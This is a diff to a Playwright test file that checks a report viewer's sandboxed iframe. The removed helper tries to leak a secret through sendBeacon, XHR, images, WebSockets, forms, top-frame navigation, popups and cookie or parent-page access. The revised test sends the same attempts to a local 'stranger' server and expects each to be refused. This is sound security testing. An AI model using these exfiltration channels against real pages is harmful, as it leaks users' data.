@@ -1,12 +1,15 @@
+import { createServer } from 'node:http';
 import type { Page } from '@playwright/test';
 import { FULL_LANGS } from '../../site/languages';
 import { EMPTY_REPORT, REPORT_HANDOVER, REPORT_MESSAGE } from '../../site/reportInterface';
 import { REPORT_NUMBERS } from '../../site/reportNumbers';
 import { REPORT_DIALOG_WORDS } from '../../site/words/reportDialog';
 import { REPORT_VIEW_WORDS as WORDS } from '../../site/words/reportView';
+import { listenLocally } from '../../tools/server/listenLocally';
 import { combinations } from '../support/combinations';
 import { eachChoice } from '../support/pairs';
 import { expect, test } from './fixtures';
+import { attack } from './frameAttack';
 import { hydrated } from './hydrated';
 import { ROUTE_SCRIPTS, forgetFaults, gone, notice } from './loadFaults';
 import { OPEN_REPORT_PAGE, choose, full, openOwn } from './ownReport';
@@ -80,55 +83,6 @@ test('issue 21: findings, packages and modules lead to their place in the full r
   }
 });
 
-/** What a report that turns against its reader would try, from inside of the frame; what it got of each. */
-async function attack(secret: string): Promise<Readonly<Record<string, string>>> {
-  const outcome = async (run: () => unknown): Promise<string> => {
-    try {
-      return `done: ${String(await run())}`;
-    } catch {
-      return 'refused';
-    }
-  };
-  const address = `/leak?${secret}`;
-  // Says that it was sent though it is refused; what comes of it the test sees.
-  navigator.sendBeacon(address, secret);
-  const event = (target: EventTarget, bad: string, good: string) =>
-    new Promise((resolve, reject) => {
-      target.addEventListener(good, () => resolve(good));
-      target.addEventListener(bad, () => reject(new Error(bad)));
-    });
-  return {
-    origin: await outcome(() => (self.origin === 'null' ? Promise.reject(new Error('none')) : self.origin)),
-    request: await outcome(() => {
-      const request = new XMLHttpRequest();
-      request.open('GET', address);
-      request.send();
-      return event(request, 'error', 'load');
-    }),
-    picture: await outcome(() => {
-      const image = new Image();
-      image.src = address;
-      return event(image, 'error', 'load');
-    }),
-    socket: await outcome(() => event(new WebSocket(`ws://${location.host}${address}`), 'error', 'open')),
-    storage: await outcome(() => indexedDB.open('x') && document.cookie),
-    page: await outcome(() => window.parent.document.title),
-    top: await outcome(() => {
-      (window.top as Window).location.href = address;
-      return 'left';
-    }),
-    window: await outcome(() => window.open(address) ?? Promise.reject(new Error('none'))),
-    form: await outcome(async () => {
-      const form = document.createElement('form');
-      form.action = address;
-      document.body.append(form);
-      form.submit();
-      await new Promise((done) => setTimeout(done, 100));
-      return Promise.reject(new Error('still here'));
-    }),
-  };
-}
-
 test('issue 21: the frame of a hostile report has neither network nor page, and strangers are not heard', async ({
   page,
   pageErrors,
@@ -138,13 +92,24 @@ test('issue 21: the frame of a hostile report has neither network nor page, and 
   page.context().on('requestfinished', (request) => {
     if (request.url().includes('leak')) leaks.push(request.url());
   });
+  const stranger = await listenLocally(
+    createServer(({ method, url }, answer) => {
+      leaks.push(`${method} ${url}`);
+      answer.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end();
+    }).on('upgrade', ({ url }, socket) => {
+      leaks.push(`socket ${url}`);
+      socket.destroy();
+    }),
+  );
   await full(page).click();
   await expect(report(page).getByText(totalSize).first()).toBeVisible();
   const inside = page.frames().find((each) => each.url().includes(INTERFACE));
   if (!inside) throw new Error('The frame of the report is not found.');
-  const got = await inside.evaluate(attack, 'lodash');
-  expect(Object.keys(got)).toHaveLength(9);
-  expect(Object.entries(got).filter(([, outcome]) => outcome !== 'refused')).toEqual([]);
+  for (const host of [new URL(page.url()).host, new URL(stranger.origin).host]) {
+    const got = await inside.evaluate(attack, { host, secret: 'lodash' });
+    expect(Object.keys(got)).toHaveLength(11);
+    expect(Object.entries(got).filter(([, outcome]) => outcome !== 'refused')).toEqual([]);
+  }
   // Neither side listens to anybody but the other.
   await page.evaluate((key) => window.postMessage({ [key]: 'escape' }, '*'), REPORT_MESSAGE);
   await inside.evaluate(
@@ -159,8 +124,12 @@ test('issue 21: the frame of a hostile report has neither network nor page, and 
   await expect(report(page).getByText(totalSize).first()).toBeVisible();
   await expect(report(page).locator('.ant-tabs-tab-active[data-node-key="E1008"]')).toHaveCount(0);
   await expect(page.getByRole('dialog')).toBeVisible();
+  // The last way out: the frame leaves for a stranger, and stays empty instead.
+  await inside.evaluate((address) => location.assign(address), `${stranger.origin}/leak?lodash`);
+  await expect(report(page).getByText(totalSize)).toHaveCount(0);
   expect(new URL(page.url()).pathname).toBe(OPEN_REPORT_PAGE);
   expect(leaks).toEqual([]);
+  stranger.close();
   // What the policy and the sandbox refused stands in the console.
   expect(pageErrors.filter((line) => !/^console: /.test(line) && !/leak/.test(line))).toEqual([]);
   pageErrors.length = 0;
